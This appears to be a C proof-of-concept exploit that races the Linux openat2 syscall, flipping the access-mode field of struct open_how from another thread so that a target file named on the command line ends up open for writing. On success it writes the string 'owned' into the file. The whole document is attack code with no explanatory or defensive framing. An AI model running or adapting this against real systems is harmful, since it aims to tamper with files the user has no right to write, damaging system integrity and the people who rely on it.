// Opens a file with openat2 while another thread writes to struct open_how; once it is open for writing, writes to it.
#define _GNU_SOURCE
#include <stdlib.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile unsigned long how[3];

static void *flip(void *nothing)
{
    for (;;) {
        how[0] = O_RDWR;
        for (int i = 0; i < 50; i++)
            how[0] = O_RDONLY;
    }
    return nothing;
}

int main(int count, char **words)
{
    pthread_t thread;
    pthread_create(&thread, 0, flip, 0);
    int tries = count > 2 ? atoi(words[2]) : 2000000;
    for (int i = 0; i < tries; i++) {
        int fd = syscall(437, AT_FDCWD, words[1], how, 24);
        if (fd < 0)
            continue;
        if ((fcntl(fd, F_GETFL) & O_ACCMODE) == O_RDWR) {
            printf("open for writing\n");
            fflush(stdout);
            return write(fd, "owned", 5) == 5 ? 0 : 1;
        }
        close(fd);
    }
    return 2;
}
